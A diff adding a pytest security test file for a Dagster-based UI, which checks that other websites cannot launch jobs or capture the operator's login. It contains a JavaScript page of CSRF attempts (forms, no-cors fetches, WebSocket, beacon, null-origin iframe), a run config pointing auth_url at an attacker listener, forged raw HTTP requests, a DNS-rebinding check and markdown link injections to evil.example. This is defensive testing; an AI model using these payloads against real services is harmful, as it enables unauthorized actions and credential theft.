@@ -1,0 +1,310 @@
+"""Attacks of other websites on a real UI: from a browser's pages, and in forms that browsers do not send. None starts anything.
+
+The service is a listener that records logins, in place of a real one: nothing may lead the password to it, or to the attacker's.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import socket
+import sys
+import threading
+import urllib.error
+import urllib.parse
+import urllib.request
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import dagster as dg
+import pytest
+from playwright.sync_api import expect, sync_playwright
+
+from assets.describe import markdown
+from assets.failures import failed_hours, failure
+from assets.partitions import EARLIEST
+from benchmarks.local_cluster import free_port
+from pipelines.process.instance import opened
+from tests.e2e.test_backfill_in_browser import FLAGS, answered, post, process, until
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+SELECTOR = (
+    '{repositoryLocationName: "enterprise-content-mirror", repositoryName: "__repository__", jobName: "reference"}'
+)
+
+pytestmark = pytest.mark.timeout(600)
+
+
+@dataclass
+class Listener:
+    """A server on loopback that records what it is asked, and answers with a page."""
+
+    port: int
+    page: str = ""
+    seen: list[tuple[str, str, bytes]] = field(default_factory=list)
+
+
+@contextmanager
+def listening() -> Iterator[Listener]:
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            listener.seen.append((self.command, self.path, body))
+            answer = listener.page.encode()
+            self.send_response(200 if self.command == "GET" else 503)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(answer)))
+            self.end_headers()
+            self.wfile.write(answer)
+
+        do_POST = do_GET  # noqa: N815  the library's name
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    listener = Listener(server.server_port)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield listener
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+@dataclass
+class Ui:
+    """The UI, the service that it is configured for, and another website."""
+
+    data: Path
+    port: int
+    service: Listener
+    evil: Listener
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    def ask(self, query: str) -> dict[str, Any]:
+        return post(f"{self.url}/graphql", {"query": query})["data"]
+
+    def mutation(self, config: str | None = None) -> str:
+        """The launch of a job that logs in, at the address of the other website."""
+        stolen = (
+            config or f'{{resources: {{enterprise: {{config: {{auth_url: "http://127.0.0.1:{self.evil.port}"}}}}}}}}'
+        )
+        return (
+            f"mutation {{ launchRun(executionParams: {{selector: {SELECTOR}, runConfigData: {json.dumps(stolen)}}}) {{ __typename "
+            "... on LaunchRunSuccess { run { runId } } ... on PythonError { message } "
+            "... on RunConfigValidationInvalid { errors { message } } } }"
+        )
+
+    def untouched(self) -> None:
+        """Nothing was started or recorded, and nobody got the password."""
+        runs = self.ask("{ runsOrError { ... on Runs { results { runId } } } }")["runsOrError"]["results"]
+        assert runs == []
+        assert not [path for _, path, _ in self.service.seen if path.startswith("/v1/login")]
+        assert not [path for method, path, _ in self.evil.seen if method == "POST"]
+        keys = self.ask("{ assetsOrError { ... on AssetConnection { nodes { key { path } } } } }")["assetsOrError"][
+            "nodes"
+        ]
+        assert ["forged"] not in [node["key"]["path"] for node in keys]
+
+
+@pytest.fixture(scope="module")
+def ui(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ui]:
+    folder = tmp_path_factory.mktemp("websites")
+    port = free_port()
+    with listening() as service, listening() as evil:
+        environ = {
+            "WME_DATA": str(folder / "data"),
+            "WME_USERNAME": "operator",
+            "WME_PASSWORD": "Passw0rd-of-the-operator",
+            "WME_PROJECTS": "enwiki",
+            "WME_UI_HOSTS": "mirror.example.org",
+            **{f"WME_{name}_URL": f"http://127.0.0.1:{service.port}" for name in ("AUTH", "BASE", "REALTIME")},
+        }
+        log = folder / "dagster.log"
+        wme = Path(sys.executable).with_name("wme")
+        with process([str(wme), "ui", "--port", str(port)], environ, log):
+            found = Ui(folder / "data", port, service, evil)
+            until(lambda: answered(f"{found.url}/server_info"), 120, "Dagster answers", log)
+            yield found
+
+
+def test_forms_that_no_browser_sends_start_nothing(ui):
+    query = urllib.parse.quote(ui.mutation())
+    body = json.dumps({"query": ui.mutation()})
+    json_type = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
+    own = f"Host: 127.0.0.1:{ui.port}\r\n"
+    for request, statuses in (
+        (f"GET /graphql?query={query} HTTP/1.1\r\n{own}", {405}),
+        (f"HEAD /graphql?query={query} HTTP/1.1\r\n{own}", {405}),
+        (f"GET /%67raphql?query={query} HTTP/1.1\r\n{own}", {405}),
+        (f"GET http://127.0.0.1/graphql?query={query} HTTP/1.1\r\n{own}", {405}),
+        (f"GET /graphql?query={query} HTTP/1.1\r\n{own}X-HTTP-Method-Override: POST\r\n{json_type}", {405}),
+        (f"POST /graphql?query={query} HTTP/1.1\r\n{own}Content-Length: 0\r\n", {415}),
+        (f"POST /graphql HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: 127.0.0.1\r\n{json_type}", {403}),
+        (f"POST /graphql HTTP/1.1\r\n{own}Host: evil.example\r\n{json_type}", {400}),
+        (f"POST /graphql HTTP/1.1\r\n{json_type}", {400, 403}),
+        (f"POST /graphql HTTP/1.0\r\n{json_type}", {403}),
+        (f"POST /graphql HTTP/1.1\r\n{own}Origin: null\r\n{json_type}", {403}),
+        (f"POST /graphql HTTP/1.1\r\n{own}Origin: {ui.url}\r\nOrigin: http://evil.example\r\n{json_type}", {400}),
+        (f"POST /graphql HTTP/1.1\r\n{own}Origin: http://evil.example\r\n{json_type}", {403}),
+        (f"POST /report_asset_materialization/forged HTTP/1.1\r\n{own}Content-Length: 0\r\n", {415}),
+    ):  # fmt: skip
+        with socket.create_connection(("127.0.0.1", ui.port), timeout=60) as connection:
+            connection.sendall(f"{request}Connection: close\r\n\r\n{body if json_type in request else ''}".encode())
+            status = int(connection.makefile("rb").readline().split()[1])
+        assert status in statuses, request
+    # a browser that opens the address is given Dagster's playground, which runs nothing
+    opening = urllib.request.Request(f"{ui.url}/graphql?query={query}", headers={"Accept": "text/html"})
+    with urllib.request.urlopen(opening, timeout=60) as answer:
+        assert b"<!doctype html" in answer.read(2000)
+    # the public name, which the settings have, is answered
+    public = urllib.request.Request(f"{ui.url}/server_info", headers={"Host": "mirror.example.org"})
+    with urllib.request.urlopen(public, timeout=60) as answer:
+        assert answer.status == 200
+    ui.untouched()
+
+
+@pytest.mark.parametrize(
+    ("config", "sentence"),
+    [
+        ("{auth_url: 'http://127.0.0.1:9'}", 'unexpected config entry "auth_url"'),
+        ("{base_url: x, data: /tmp}", "unexpected config entries \"['base_url', 'data']\""),
+        ("{contact: {env: HOME}}", 'unexpected config entry "contact"'),
+        ("{password: {env: WME_PASSWORD}}", 'unexpected config entry "password"'),
+        ("{lookups_per_day: {env: WME_PASSWORD}}", "is not valid for expected type"),
+    ],
+)
+def test_a_run_of_an_allowed_program_sets_no_address_and_reads_no_variable(ui, config, sentence):
+    launched = ui.ask(ui.mutation(f"{{resources: {{enterprise: {{config: {config}}}}}}}"))["launchRun"]
+    assert launched["__typename"] == "RunConfigValidationInvalid"
+    (error,) = launched["errors"]
+    assert sentence in error["message"]
+    assert "Passw0rd" not in error["message"]
+    ui.untouched()
+
+
+ATTACKS = """<!doctype html><title>waiting</title><body><script>
+const ui = UI, mutation = MUTATION, target = ui + "/graphql", query = target + "?query=" + encodeURIComponent(mutation);
+const body = JSON.stringify({query: mutation}), opened = [];
+const ended = (what, ...events) => new Promise(done => events.forEach(e => what.addEventListener(e, () => done(e))));
+const element = (name, values) => {
+  const made = Object.assign(document.createElement(name), values), end = ended(made, "load", "error");
+  document.body.append(made);
+  return end;
+};
+const form = (kind, action, name) => {
+  const end = element("iframe", {name}), made = document.createElement("form");
+  Object.assign(made, {method: "POST", action, enctype: kind, target: name});
+  made.append(Object.assign(document.createElement("input"), {name: "query", value: mutation}));
+  document.body.append(made);
+  const sent = ended(document.querySelector(`iframe[name=${name}]`), "load");
+  made.submit();
+  return sent;
+};
+const socket = () => {
+  const made = new WebSocket(target.replace("http", "ws"), "graphql-ws"), end = ended(made, "open", "error");
+  made.addEventListener("open", () => made.send(JSON.stringify({type: "start", id: "1", payload: {query: mutation}})));
+  return end;
+};
+const sandboxed = () => element("iframe", {sandbox: "allow-scripts", srcdoc:
+  `<script>fetch(${JSON.stringify(target)}, {method: "POST", mode: "no-cors", body: ${JSON.stringify(body)}})<` + `/script>`});
+const tries = {
+  image: element("img", {src: query}),
+  script: element("script", {src: query}),
+  style: element("link", {rel: "stylesheet", href: query}),
+  frame: element("iframe", {src: query}),
+  simple: fetch(query, {mode: "no-cors", headers: {Accept: "text/html"}}),
+  plain: fetch(target, {method: "POST", mode: "no-cors", body}),
+  disguised: fetch(target, {method: "POST", mode: "no-cors", body, headers: {"Content-Type": "text/plain; a=application/json"}}),
+  empty: fetch(query, {method: "POST", mode: "no-cors"}),
+  preflight: fetch(target, {method: "POST", body, headers: {"Content-Type": "application/json"}}),
+  put: fetch(target, {method: "PUT", body, headers: {"Content-Type": "application/json"}}),
+  report: fetch(ui + "/report_asset_materialization/forged", {method: "POST", mode: "no-cors"}),
+  urlencoded: form("application/x-www-form-urlencoded", query, "a"),
+  text: form("text/plain", query, "b"),
+  multipart: form("multipart/form-data", query, "c"),
+  reported: form("text/plain", ui + "/report_asset_materialization/forged", "d"),
+  null: sandboxed(),
+  socket: socket(),
+};
+navigator.sendBeacon(query, body);
+Promise.all(Object.entries(tries).map(async ([name, end]) => [name, await Promise.resolve(end).then(e => e.type || e, e => e.name)]))
+  .then(found => { window.found = Object.fromEntries(found); document.title = "done"; });
+</script>"""
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="No chromium here; on Debian: apt-get install chromium.")
+def test_pages_of_other_websites_start_nothing_and_the_uis_own_page_works(ui):
+    ui.evil.page = ATTACKS.replace("UI,", f"{json.dumps(ui.url)},", 1).replace(
+        "MUTATION,", f"{json.dumps(ui.mutation())},", 1
+    )
+    flags = [*FLAGS, "--host-resolver-rules=MAP rebound.example 127.0.0.1"]
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=flags)
+        page = browser.new_page(viewport={"width": 1500, "height": 2000})
+        page.set_default_timeout(120_000)
+        statuses: dict[str, set[int]] = {}
+
+        def note(response: Any) -> None:
+            if response.url.startswith(ui.url):
+                statuses.setdefault(f"{response.request.method} {response.request.resource_type}", set()).add(
+                    response.status
+                )
+
+        page.on("response", note)
+        # another port of the same name, and another site
+        for host in ("127.0.0.1", "localhost"):
+            page.goto(f"http://{host}:{ui.evil.port}/")
+            page.wait_for_function("document.title === 'done'")
+            found = page.evaluate("found")
+            assert found["socket"] == "error"
+            assert found["preflight"] == found["put"] == "TypeError"
+        assert set().union(*statuses.values()) <= {403, 405, 415}, statuses
+        # a link may open the UI, and Dagster's playground, which runs nothing by itself
+        with page.expect_navigation(url=f"{ui.url}/graphql**") as navigation:
+            page.evaluate("void (location.href = query)")
+        assert navigation.value.status == 200
+        # a name of theirs that leads to this machine
+        answer = page.goto(f"http://rebound.example:{ui.port}/")
+        assert (answer.status, "WME_UI_HOSTS" in answer.text()) == (403, True)
+        ui.untouched()
+
+        page.goto(f"{ui.url}/assets")
+        expect(page.get_by_text("article_changes").first).to_be_visible(timeout=120_000)
+        _names_in_markdown_are_text(ui, page)
+        browser.close()
+
+
+NAME = "[free](https://evil.example/a) ![](https://evil.example/b.png) <img src=https://evil.example/c> https://evil.example/d www.evil.example"
+
+
+def _names_in_markdown_are_text(ui: Ui, page: Any) -> None:
+    told = failed_hours({EARLIEST: ConnectionError(NAME)}, 2)
+    with opened(ui.data / "dagster") as instance:
+        instance.report_runless_asset_event(
+            dg.AssetMaterialization(
+                "names",
+                description=failure(ConnectionError(NAME)).description,
+                metadata={"names": markdown([{"name": NAME, "end": "the end"}], ("name", "end")), **told.metadata},
+            )
+        )
+    page.goto(f"{ui.url}/assets/names?view=events")
+    page.get_by_text("Show Markdown").first.click()
+    page.screenshot(path="/tmp/scratch-ui/shot.png")
+    expect(page.get_by_text("the end", exact=True)).to_be_visible(timeout=120_000)
+    links = page.evaluate(
+        "[...document.querySelectorAll('a, img')].map(one => one.href || one.src).filter(one => one.includes('evil'))"
+    )
+    assert links == []
